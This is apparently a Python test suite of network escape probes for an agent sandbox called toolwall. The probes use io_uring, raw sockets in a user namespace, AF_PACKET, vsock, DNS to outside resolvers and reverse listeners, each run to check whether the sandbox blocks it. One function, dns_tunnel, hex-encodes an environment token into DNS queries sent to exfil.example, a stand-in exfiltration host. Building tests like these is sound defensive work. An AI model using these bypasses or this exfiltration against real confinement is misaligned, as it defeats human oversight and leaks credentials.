#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
# Network escapes: reach a host, a port or a protocol that the call's
# context does not allow. An echo server answers on the test hosts, so an
# answer (or a created socket, for families that need no peer) is an escape.
#   net.py ATTACK ARGS...   (see TABLE at the bottom)
import sys
sys.dont_write_bytecode = True  # (a call may not write here)
import ctypes
import os
import socket
import struct
import time

from _esc import blocked, error, escaped, libc, refused_or_error, sysc

MARK = b"tw-escape-probe"


def fam(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def addr(host, port):
    return (host, int(port))


def reply(s, what, wait=2.0):
    """Wait for the echo; an answer is the escape, silence a drop."""
    s.settimeout(wait)
    try:
        data = s.recv(4096)
    except socket.timeout:
        blocked("%s: no answer (dropped)" % what)
    except OSError as e:
        refused_or_error(e, what)
    if data:
        escaped("%s answered (%d bytes)" % (what, len(data)))
    blocked("%s: closed without an answer" % what)


def tcp(host, port):
    s = socket.socket(fam(host), socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr(host, port))
    except OSError as e:
        refused_or_error(e, "connect %s:%s" % (host, port))
    s.sendall(MARK)
    reply(s, "tcp %s:%s" % (host, port))


def udp(host, port):
    s = socket.socket(fam(host), socket.SOCK_DGRAM)
    if host.startswith("::ffff:"):
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    try:
        s.sendto(MARK, addr(host, port))
    except OSError as e:
        refused_or_error(e, "sendto %s:%s" % (host, port))
    reply(s, "udp %s:%s" % (host, port))


def udp_sendmsg(host, port):
    s = socket.socket(fam(host), socket.SOCK_DGRAM)
    try:
        s.sendmsg([MARK[:4], MARK[4:]], [], 0, addr(host, port))
    except OSError as e:
        refused_or_error(e, "sendmsg %s:%s" % (host, port))
    reply(s, "udp sendmsg %s:%s" % (host, port))


def udp_connect(host, port):
    s = socket.socket(fam(host), socket.SOCK_DGRAM)
    try:
        s.connect(addr(host, port))
        s.send(MARK)
    except OSError as e:
        refused_or_error(e, "udp connect %s:%s" % (host, port))
    reply(s, "connected udp %s:%s" % (host, port))


class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32),
                ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]


def sendmmsg(host, port):
    """Two messages in one sendmmsg(): the hook must judge each."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sa = (struct.pack("=H", socket.AF_INET) + struct.pack("!H", int(port)) +
          socket.inet_aton(host) + bytes(8))
    sabuf = ctypes.create_string_buffer(sa, len(sa))
    payload = ctypes.create_string_buffer(MARK, len(MARK))
    iov = iovec(ctypes.cast(payload, ctypes.c_void_p), len(MARK))
    msgs = (mmsghdr * 2)()
    for m in msgs:
        m.hdr.name = ctypes.cast(sabuf, ctypes.c_void_p)
        m.hdr.namelen = len(sa)
        m.hdr.iov = ctypes.pointer(iov)
        m.hdr.iovlen = 1
    n = libc.sendmmsg(s.fileno(), msgs, 2, 0)
    if n < 0:
        refused_or_error(OSError(ctypes.get_errno(), "sendmmsg"),
                         "sendmmsg %s:%s" % (host, port))
    reply(s, "sendmmsg %s:%s (%d sent)" % (host, port, n))


def tfo(host, port):
    s = socket.socket(fam(host), socket.SOCK_STREAM)  # blocking: no EINPROGRESS
    try:
        s.sendto(MARK, socket.MSG_FASTOPEN, addr(host, port))
    except OSError as e:
        refused_or_error(e, "MSG_FASTOPEN %s:%s" % (host, port))
    reply(s, "fast open %s:%s" % (host, port))


def tfo_connect(host, port):
    s = socket.socket(fam(host), socket.SOCK_STREAM)
    s.settimeout(3)
    s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
    try:
        s.connect(addr(host, port))
        s.sendall(MARK)
    except OSError as e:
        refused_or_error(e, "TCP_FASTOPEN_CONNECT %s:%s" % (host, port))
    reply(s, "fast open connect %s:%s" % (host, port))


def mptcp(host, port):
    try:
        s = socket.socket(fam(host), socket.SOCK_STREAM, 262)
    except OSError as e:
        refused_or_error(e, "MPTCP socket")
    s.settimeout(3)
    try:
        s.connect(addr(host, port))
    except OSError as e:
        refused_or_error(e, "MPTCP connect")
    s.sendall(MARK)
    reply(s, "mptcp %s:%s" % (host, port))


def io_uring():
    """A ring: its SOCKET/CONNECT/SENDMSG ops never pass socket()'s filter."""
    params = ctypes.create_string_buffer(120)
    fd = sysc(425, 8, params)  # io_uring_setup
    os.close(fd)
    escaped("io_uring_setup gave a ring (fd %d)" % fd)


def unshare_raw():
    """CAP_NET_RAW in a user namespace of its own, then a raw socket."""
    sysc(272, 0x10000000 | 0x40000000)  # unshare(CLONE_NEWUSER|CLONE_NEWNET)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.close()
    escaped("raw socket in a user namespace of its own")


def raw(v="4"):
    f = socket.AF_INET6 if v == "6" else socket.AF_INET
    p = 58 if v == "6" else socket.IPPROTO_ICMP
    try:
        s = socket.socket(f, socket.SOCK_RAW, p)
    except OSError as e:
        refused_or_error(e, "raw socket")
    s.close()
    escaped("raw IPv%s socket" % v)


def ping(host):
    v6 = ":" in host
    try:
        s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET,
                          socket.SOCK_DGRAM, 58 if v6 else socket.IPPROTO_ICMP)
    except OSError as e:
        refused_or_error(e, "ICMP socket")
    # (a ping socket fills in the identifier and the checksum itself)
    pkt = struct.pack("!BBHHH", 128 if v6 else 8, 0, 0, 0, 1) + MARK
    try:
        s.sendto(pkt, (host, 0))
    except OSError as e:
        refused_or_error(e, "ICMP echo to %s" % host)
    reply(s, "ping %s" % host)


def packet():
    try:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    except OSError as e:
        refused_or_error(e, "AF_PACKET socket")
    s.close()
    escaped("AF_PACKET socket (frames bypass every cgroup hook)")


def netlink():
    try:
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    except OSError as e:
        refused_or_error(e, "AF_NETLINK socket")
    # RTM_GETLINK dump: the host's interfaces
    req = struct.pack("=IHHII", 32, 18, 0x301, 1, 0) + struct.pack("=BxHiII", 0, 0, 0, 0, 0)
    s.send(req)
    s.settimeout(2)
    data = s.recv(65536)
    escaped("netlink route dump (%d bytes)" % len(data))


def vsock():
    """Create only: AF_VSOCK talks to the hypervisor, never a test host."""
    try:
        s = socket.socket(40, socket.SOCK_STREAM, 0)  # AF_VSOCK
    except OSError as e:
        refused_or_error(e, "AF_VSOCK socket")
    s.close()
    escaped("AF_VSOCK socket (the VM's host channel)")


def sctp(host, port):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
    except OSError as e:
        refused_or_error(e, "SCTP socket")
    s.settimeout(3)
    try:
        s.connect(addr(host, port))
    except OSError as e:
        refused_or_error(e, "SCTP connect")
    escaped("SCTP association to %s:%s" % (host, port))


def unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    p = "\0" + path[1:] if path.startswith("@") else path
    try:
        s.connect(p)
    except OSError as e:
        refused_or_error(e, "connect unix %s" % path)
    s.sendall(MARK)
    reply(s, "unix %s" % path)


# ---- DNS -------------------------------------------------------------------

def dns_query(name, qtype=1):
    q = struct.pack("!HHHHHH", 0x7457, 0x0100, 1, 0, 0, 0)
    for label in name.rstrip(".").split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", qtype, 1)


SINK_ANSWER = socket.inet_aton("192.0.2.99")  # only the test's sink says this


def dns_verdict(ans, what):
    if len(ans) < 12:
        error("%s: short answer" % what)
    rcode = ans[3] & 15
    if SINK_ANSWER in ans[12:]:
        escaped("%s: the outside resolver answered" % what)
    blocked("%s: toolwall's resolver answered (rcode %d)" % (what, rcode))


def dns_udp(server, name, port="53"):
    s = socket.socket(fam(server), socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(dns_query(name), (server, int(port)))
        ans = s.recv(4096)
    except socket.timeout:
        blocked("dns %s to %s: no answer (dropped)" % (name, server))
    except OSError as e:
        refused_or_error(e, "dns to %s" % server)
    dns_verdict(ans, "dns %s to %s" % (name, server))



def recv_tcp_dns(s):
    """One length-prefixed DNS message (the prefix may arrive alone)."""
    buf = b""
    while len(buf) < 2 or len(buf) < 2 + int.from_bytes(buf[:2], "big"):
        b = s.recv(4096)
        if not b:
            break
        buf += b
    return buf[2:]

def dns_tcp(server, name, port="53"):
    s = socket.socket(fam(server), socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((server, int(port)))
        q = dns_query(name)
        s.sendall(struct.pack("!H", len(q)) + q)
        ans = recv_tcp_dns(s)
    except socket.timeout:
        blocked("dns/tcp %s to %s: no answer (dropped)" % (name, server))
    except OSError as e:
        refused_or_error(e, "dns/tcp to %s" % server)
    dns_verdict(ans, "dns/tcp %s to %s" % (name, server))


def dns_tunnel(server):
    """The call's own credential, hex-encoded into query names."""
    tok = os.environ.get("TRACKER_TOKEN", "bare-agent-has-no-token").encode()
    name = "%s.t.exfil.example" % tok.hex()[:60]
    dns_udp(server, name)


# ---- inbound ---------------------------------------------------------------

def listen(host, port):
    s = socket.socket(fam(host), socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind(addr(host, port))
        s.listen(4)
    except OSError as e:
        refused_or_error(e, "bind+listen %s:%s" % (host, port))
    escaped("listening on %s:%s (a reverse channel)" % (host, port))


def udp_bind(host, port):
    s = socket.socket(fam(host), socket.SOCK_DGRAM)
    try:
        s.bind(addr(host, port))
    except OSError as e:
        refused_or_error(e, "udp bind %s:%s" % (host, port))
    escaped("udp bound on %s:%s (a reverse channel)" % (host, port))


def mcast(group, local):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    mreq = socket.inet_aton(group) + socket.inet_aton(local)
    try:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    except OSError as e:
        refused_or_error(e, "IP_ADD_MEMBERSHIP %s" % group)
    escaped("joined %s (the kernel sent an IGMP report)" % group)


def mcast6(group, ifindex):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    mreq = socket.inet_pton(socket.AF_INET6, group) + struct.pack("@I", int(ifindex))
    try:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, mreq)
    except OSError as e:
        refused_or_error(e, "IPV6_JOIN_GROUP %s" % group)
    escaped("joined %s (the kernel sent an MLD report)" % group)


# ---- a socket that outlives a reload ---------------------------------------

def hold(kind, host, port, ready, go):
    """Connect while allowed, then wait for the policy to change and send."""
    t = socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM
    s = socket.socket(fam(host), t)
    s.settimeout(3)
    s.connect(addr(host, port))
    s.send(MARK)
    if not s.recv(4096):
        error("no answer while allowed")
    open(ready, "w").close()
    for _ in range(300):
        if os.path.exists(go):
            break
        time.sleep(0.1)
    else:
        error("never told to go on")
    try:
        s.send(MARK)
    except OSError as e:
        refused_or_error(e, "send after the reload")
    reply(s, "%s %s:%s connected before the reload" % (kind, host, port))


TABLE = {
    "tcp": tcp, "udp": udp, "udp-sendmsg": udp_sendmsg,
    "udp-connect": udp_connect, "sendmmsg": sendmmsg, "tfo": tfo,
    "tfo-connect": tfo_connect, "mptcp": mptcp, "io_uring": io_uring,
    "unshare-raw": unshare_raw, "raw": raw, "ping": ping, "packet": packet,
    "netlink": netlink, "vsock": vsock, "sctp": sctp, "unix": unix,
    "dns-udp": dns_udp, "dns-tcp": dns_tcp, "dns-tunnel": dns_tunnel,
    "listen": listen, "udp-bind": udp_bind, "mcast": mcast,
    "mcast6": mcast6, "hold": hold,
}

if __name__ == "__main__":
    from _esc import run
    run(TABLE)
